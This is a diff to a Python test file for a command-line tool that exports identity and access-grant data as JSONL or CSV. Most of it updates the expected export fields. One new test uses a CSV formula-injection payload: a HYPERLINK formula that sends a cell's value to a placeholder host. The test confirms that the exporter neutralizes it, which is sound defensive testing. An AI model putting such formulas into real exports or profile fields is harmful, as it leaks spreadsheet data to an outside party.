@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import sys
@@ -12,6 +14,7 @@ from click.testing import CliRunner
 
 from tests.support.store import ORG1, sync_and_finalize, user
 from worker.cli import main
+from worker.model import Grant, Resource
 from worker.store.db import make_engine
 from worker.store.migrate import current_revision, head_revision
 
@@ -33,19 +36,29 @@ def test_export_jsonl_shape(synced):
     assert code == 0, out
     records = [json.loads(line) for line in out.splitlines()]
     kinds = [r["kind"] for r in records]
-    assert kinds == sorted(kinds, key=["resource", "entitlement", "grant"].index)
-    by_id = {r["id"]: r for r in records}
-    assert by_id["user:u1"] == {"kind": "resource", "id": "user:u1", "resource_type": "user", "resource_id": "u1",
-                                "display_name": "User u1", "profile": {"email": "u1@example.com"}}
-    assert by_id["app:a1:access"] == {"kind": "entitlement", "id": "app:a1:access", "resource": "app:a1",
-                                      "slug": "access", "display_name": "App a1 access"}
-    assert by_id["app:a1:access:user:u1"] == {"kind": "grant", "id": "app:a1:access:user:u1", "entitlement": "app:a1:access",
-                                              "principal": "user:u1", "expanded": True,
-                                              "sources": ["app:a1:access:group:g1"]}
-    assert by_id["app:a1:access:group:g1"]["expanded"] is False
-    assert by_id["app:a1:access:user:u2"]["expanded"] is False  # Okta listed it
+    assert kinds == sorted(kinds, key=["resource_type", "resource", "entitlement", "grant"].index)
+    by_id = {(r["kind"], r["id"]): r for r in records}
+    assert by_id["resource", "user:u1"] == {
+        "kind": "resource", "id": "user:u1", "resource_type": "user", "resource_id": "u1",
+        "display_name": "User u1", "parent": None, "profile": {"email": "u1@example.com"}}
+    assert by_id["entitlement", "app:a1:access"] == {
+        "kind": "entitlement", "id": "app:a1:access", "resource": "app:a1", "resource_type": "app", "slug": "access",
+        "display_name": "App a1 access", "description": "Has access to the App a1 app in Okta",
+        "purpose": "assignment", "grantable_to": ["user", "group"]}
+    assert by_id["grant", "app:a1:access:user:u1"] == {
+        "kind": "grant", "id": "app:a1:access:user:u1", "entitlement": "app:a1:access", "principal": "user:u1",
+        "expanded": True, "sources": ["app:a1:access:group:g1"], "annotations": {}}
+    assert by_id["grant", "app:a1:access:group:g1"]["expanded"] is False
+    listed = by_id["grant", "app:a1:access:user:u2"]  # Okta listed it, and said how it holds
+    assert (listed["expanded"], listed["annotations"]) == (False, {"scope": "GROUP"})
+    assert by_id["resource_type", "group"] == {"kind": "resource_type", "id": "group", "display_name": "Group",
+                                              "traits": ["group"], "entitlement_slug": "member"}
+    assert sum(k == "resource_type" for k in kinds) == 8
     assert sum(k == "grant" for k in kinds) == len(ORG1["grants"]) + 2
     assert sum(k == "resource" for k in kinds) == len(ORG1["resources"])
+    code, out = run_cli("export", "--db", synced.url, "--kind", "entitlement", "--kind", "resource_type")
+    assert code == 0, out
+    assert {json.loads(line)["kind"] for line in out.splitlines()} == {"entitlement", "resource_type"}
 
 
 def test_export_picks_the_only_tenant_else_asks(synced, tmp_path):
@@ -66,6 +79,26 @@ def test_export_picks_the_only_tenant_else_asks(synced, tmp_path):
     assert code != 0 and "no finished sync" in out
     code, out = run_cli("export", "--db", synced.url, "--tenant", "acme", "-o", str(tmp_path / "out.jsonl"))
     assert code == 0 and len((tmp_path / "out.jsonl").read_text().splitlines()) > 10
+
+
+def test_export_csv_neutralizes_formulas_and_refuses_two_kinds(store):
+    # A display name is whatever the org holds (users can edit their own profile): a spreadsheet
+    # must not run it as a formula.
+    t = store.tenant("acme")
+    evil = Resource("user", "u9", '=HYPERLINK("http://x.example/?"&A1,"Click")', {"email": "u9@example.com"})
+    sync_and_finalize(store, t, ORG1["resources"] + [evil], ORG1["entitlements"],
+                      ORG1["grants"] + [Grant("group:g1:member", "user", "u9", annotations={"note": "x", "scope": "USER"})])
+    code, out = run_cli("export", "--db", store.url, "--format", "csv")
+    assert code == 0, out
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out))}
+    row = rows["group:g1:member:user:u9"]
+    assert row["principal_name"] == "'" + evil.display_name
+    assert (row["assignment_scope"], row["other_annotations"]) == ("USER", '{"note":"x"}')  # unknown keys kept
+    code, out = run_cli("export", "--db", store.url, "--format", "csv", "--kind", "grant", "--kind", "resource")
+    assert code != 0 and "one kind" in out
+    store.tenant("beta")
+    code, out = run_cli("export", "--db", store.url, "--tenant", "beta", "--format", "csv")
+    assert code != 0 and "no finished sync" in out and "principal_name" not in out  # no header alone
 
 
 def test_grants_command(synced):
